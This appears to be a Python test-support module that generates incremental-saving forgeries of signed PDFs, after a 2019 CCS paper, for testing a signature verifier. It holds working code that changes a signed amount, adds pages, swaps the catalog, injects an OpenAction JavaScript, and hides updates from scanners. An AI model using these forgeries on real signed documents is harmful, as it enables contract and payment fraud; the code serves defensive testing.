"""ISA: incremental saving attacks (Mladenov et al., CCS 2019, §5.2).

From Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund:
How to Spoof PDF Signatures", ACM CCS 2019: content changed by an incremental update
(ISO 32000-1 §7.5.6) appended after the signed revision, with or without an xref
section, and variants that hide the update from byte scanners (object streams, xref
streams, objects no xref lists, updates dressed as validation data or as an allowed
form fill).

Example::

    forged = isa_same_object_number(signed_base())   # an update renders "9.000.000 VND"
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.fields import SigSeedSubFilter

from tests.support.attacks._base import (
    FORGED,
    SIGNING_TIME,
    TITLE,
    _FixedTimePdfSigner,
    _forged_content,
    _last_trailer,
    _page_ref,
    _page_ref_in,
    _parse_xref_lines,
    _reader,
    _size,
    _xref_section,
    amount_line,
    append_update,
    last_startxref,
    pkcs12_signer,
    serialize,
    stream,
    written,
)
from tests.support.attacks.allowed import allowed_form_fill


def isa_update_with_xref(signed: bytes) -> bytes:
    """ISA variant 1: a well-formed incremental update (pyHanko's writer) adds a new
    content stream and points the page at it; new xref section, trailer with /Prev."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    page = writer.root["/Pages"]["/Kids"][0]
    page["/Contents"] = content
    writer.update_container(page)
    return written(writer)


def isa_update_without_xref(signed: bytes) -> bytes:
    """ISA variant 2: the page and its content redefined after ``%%EOF`` with no xref,
    trailer or startxref: viewers that rebuild the object table by scanning take the
    last definition."""
    page_ref = _page_ref(signed)
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed)),
                                  page_ref.idnum: _page_body(signed)}, xref=False)


def _page_body(signed: bytes) -> bytes:
    page = _reader(signed).root["/Pages"]["/Kids"][0]
    return serialize(page)


def isa_page_and_catalog(signed: bytes) -> bytes:
    """ISA: an update that redefines the catalog (new page tree) and the signed page
    object (new content); the new page keeps the signature widget."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    old_page = writer.root["/Pages"]["/Kids"][0]
    old_page["/Contents"] = content
    writer.update_container(old_page)
    new_page = generic.DictionaryObject({k: v for k, v in old_page.items() if k != "/Parent"})
    new_page_ref = writer.add_object(new_page)
    pages_ref = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Pages"),
        generic.NameObject("/Kids"): generic.ArrayObject([new_page_ref]),
        generic.NameObject("/Count"): generic.NumberObject(1),
    }))
    new_page[generic.NameObject("/Parent")] = pages_ref
    writer.root[generic.NameObject("/Pages")] = pages_ref
    writer.update_root()
    return written(writer)


def isa_same_object_number(signed: bytes) -> bytes:
    """ISA: the signed content stream object redefined under its own number (raw
    update: the object, an xref subsection for it, trailer with /Prev)."""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed))})


def isa_xref_without_prev(signed: bytes) -> bytes:
    """ISA: the redefinition comes with a complete xref table and a trailer *without*
    /Prev, so the file's xref chain has a single section: a verifier that counts
    revisions through /Prev sees no update after the signature."""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, {contents.idnum: stream(_forged_content(signed))},
                         prev=False, full_xref=True)


def isa_page_added(signed: bytes) -> bytes:
    """ISA: an update that adds a second page (the forged terms) to the signed page tree,
    leaving page 1 untouched."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    pages = writer.root["/Pages"]
    old_page = pages["/Kids"][0]
    content = writer.add_object(generic.StreamObject(
        stream_data=TITLE + amount_line(FORGED) + b"BT /F1 12 Tf 72 720 Td (Phu luc) Tj ET"))
    page = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Page"),
        generic.NameObject("/Parent"): writer.root.raw_get("/Pages"),
        generic.NameObject("/MediaBox"): old_page["/MediaBox"],
        generic.NameObject("/Resources"): old_page["/Resources"],
        generic.NameObject("/Contents"): content,
    })
    pages["/Kids"].append(writer.add_object(page))
    pages[generic.NameObject("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)
    return written(writer)


def isa_open_action_javascript(signed: bytes) -> bytes:
    """ISA: an update that gives the catalog an /OpenAction running JavaScript (which
    could, e.g., rewrite the amount on display), nothing else."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    js = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/S"): generic.NameObject("/JavaScript"),
        generic.NameObject("/JS"): generic.TextStringObject(
            "this.getField('x'); app.alert('9.000.000 VND');"),
    }))
    writer.root[generic.NameObject("/OpenAction")] = js
    writer.update_root()
    return written(writer)


def isa_object_stream(signed: bytes) -> bytes:
    """ISA hidden from byte scanners: the update is an xref *stream* section whose
    redefined page object sits, Flate-compressed, inside an object stream (ISO 32000-1
    §7.5.7-8), and the forged content stream is compressed too: no ``3 0 obj`` and no
    amount appear in the appended bytes."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    writer.stream_xrefs = True
    objstm = writer.prepare_object_stream(compress=True)
    content = generic.StreamObject(stream_data=_forged_content(signed))
    content.compress()
    content_ref = writer.add_object(content)
    page_ref = _page_ref_in(writer)
    page = page_ref.get_object()
    page[generic.NameObject("/Contents")] = content_ref
    # add_object() only takes fresh numbers; redefining an existing one inside an object
    # stream goes through the stream itself (pyHanko's ObjectStream API).
    objstm.add_object(page_ref.idnum, page)
    writer.objs_in_streams[page_ref.idnum] = page
    data = written(writer)
    appended = data[len(signed):]
    assert FORGED not in appended
    assert not re.search(rb"(?m)^%d 0 obj" % page_ref.idnum, appended)
    return data


def isa_dss_smuggle(signed: bytes) -> bytes:
    """ISA dressed as validation data: the update adds a /DSS whose /Certs lists the
    page's content stream object, redefined with the forged amount. A verifier that
    waves through "objects reachable from the DSS" lets the content change pass."""
    reader = _reader(signed)
    catalog = reader.root
    contents = catalog["/Pages"]["/Kids"][0].raw_get("/Contents")
    catalog_body = serialize(catalog)
    catalog_body = catalog_body[:-2].rstrip() + b"\n/DSS << /Certs [ %d 0 R ] >>\n>>" % (
        contents.idnum)
    return append_update(signed, {contents.idnum: stream(_forged_content(signed)),
                                  reader.root_ref.idnum: catalog_body})


def isa_with_second_signature(signed: bytes) -> bytes:
    """ISA by an insider: the amount is changed and a second, valid signature (the
    organisation's, org-omon) is added in the same revision. The second signature is
    genuinely valid; the first must report the change."""
    writer = IncrementalPdfFileWriter(io.BytesIO(signed))
    content = writer.add_object(generic.StreamObject(stream_data=_forged_content(signed)))
    page = writer.root["/Pages"]["/Kids"][0]
    page[generic.NameObject("/Contents")] = content
    writer.update_container(page)
    meta = signers.PdfSignatureMetadata(field_name="Signature2", md_algorithm="sha256",
                                        subfilter=SigSeedSubFilter.PADES)
    pdf_signer = _FixedTimePdfSigner(meta, pkcs12_signer("org-omon"),
                                     signing_time=SIGNING_TIME)
    return bytes(pdf_signer.sign_pdf(writer).getvalue())


def isa_trailer_root_swap(signed: bytes) -> bytes:
    """ISA: the update's trailer names a *new* catalog (/Root), with a new page tree
    and page; none of the signed objects is redefined. The new catalog keeps the
    AcroForm, so the signature is still found."""
    reader = _reader(signed)
    catalog = reader.root
    n = _size(signed)
    catalog_body = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (n + 1), serialize(catalog))
    page_body = serialize(catalog["/Pages"]["/Kids"][0])
    page_body = re.sub(rb"/Parent \d+ 0 R", b"/Parent %d 0 R" % (n + 1), page_body)
    page_body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % (n + 3), page_body)
    return append_update(signed, {
        n: catalog_body,
        n + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 2),
        n + 2: page_body,
        n + 3: stream(_forged_content(signed)),
    }, root=n)


def isa_stowaway_in_allowed_update(certified: bytes) -> bytes:
    """ISA riding on an allowed update: the form is filled (permitted by DocMDP P=2),
    and the same update also carries a redefinition of the page's content stream that
    no xref entry lists (offsets of the update's real objects shifted to make room).
    Readers that follow the xref ignore it; readers that rebuild the object table by
    scanning take it as the newest definition of the content stream."""
    filled = allowed_form_fill(certified)
    contents = _reader(certified).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    insert = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(certified)))
    at = len(certified)
    n = last_startxref(filled)
    section_end = filled.index(b"trailer", n)
    entries = _parse_xref_lines(filled[n + len(b"xref"):section_end])
    shifted = {k: (v + len(insert) if v >= at else v) for k, v in entries.items()}
    section = _xref_section(shifted, with_free_head=0 in entries)
    tail = filled[section_end:filled.rindex(b"startxref")]
    return (filled[:at] + insert + filled[at:n] + section + tail
            + b"startxref\n%d\n%%%%EOF\n" % (n + len(insert)))


def append_xref_stream_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    unlisted: bytes = b"",
    filter_name: bytes | None = b"/ASCIIHexDecode",
) -> bytes:
    """Append an update whose cross-reference section is an xref *stream* (ISO 32000-1
    §7.5.8), encoded with a standard filter (§7.4.2; ASCIIHexDecode by default) rather
    than the usual FlateDecode.

    Args:
        objects: objects the section lists.
        unlisted: raw bytes placed before them that the section does not list.
    """
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    out += unlisted
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_number = max(_size(data), max(offsets, default=0) + 1)
    at = offsets[xref_number] = len(out)
    numbers = sorted(offsets)
    rows = b"".join(b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in numbers)
    if filter_name == b"/ASCIIHexDecode":
        rows = rows.hex().encode() + b">"
    elif filter_name is not None:
        raise ValueError(f"no encoder for {filter_name!r}")
    old = _last_trailer(data)
    keep = b" ".join(m.group(0) for m in re.finditer(
        rb"/(Root|Info) \d+ \d+ R|/ID\s*\[[^\]]*\]", old))
    entries = (b"/Type /XRef /W [1 4 2] /Size %d /Index [%s] /Prev %d %s "
               % (xref_number + 1, b" ".join(b"%d 1" % n for n in numbers),
                  last_startxref(data), keep))
    if filter_name is not None:
        entries += b"/Filter " + filter_name + b" "
    out += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(rows, entries))
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def isa_stowaway_hex_xref_stream(signed: bytes) -> bytes:
    """ISA stowaway in an update that changes nothing listed: an xref stream (encoded
    with ASCIIHexDecode, a standard filter) that lists only itself, preceded by a
    redefinition of the page's content stream that it does not list. pyHanko calls
    the update harmless; readers that rebuild the object table by scanning show the
    forged amount. (The filter makes a reader that only knows FlateDecode fall back to
    another parser; the stowaway must be found on every path.)"""
    contents = _reader(signed).root["/Pages"]["/Kids"][0].raw_get("/Contents")
    stowaway = b"%d 0 obj\n%s\nendobj\n" % (contents.idnum, stream(_forged_content(signed)))
    return append_xref_stream_update(signed, {}, unlisted=stowaway)


def isa_without_xref_after_hex_xref_stream(signed: bytes) -> bytes:
    """ISA variant 2 (objects after %%EOF, no xref) behind an innocuous update whose
    xref stream is ASCIIHex-encoded."""
    return isa_update_without_xref(append_xref_stream_update(signed, {}))
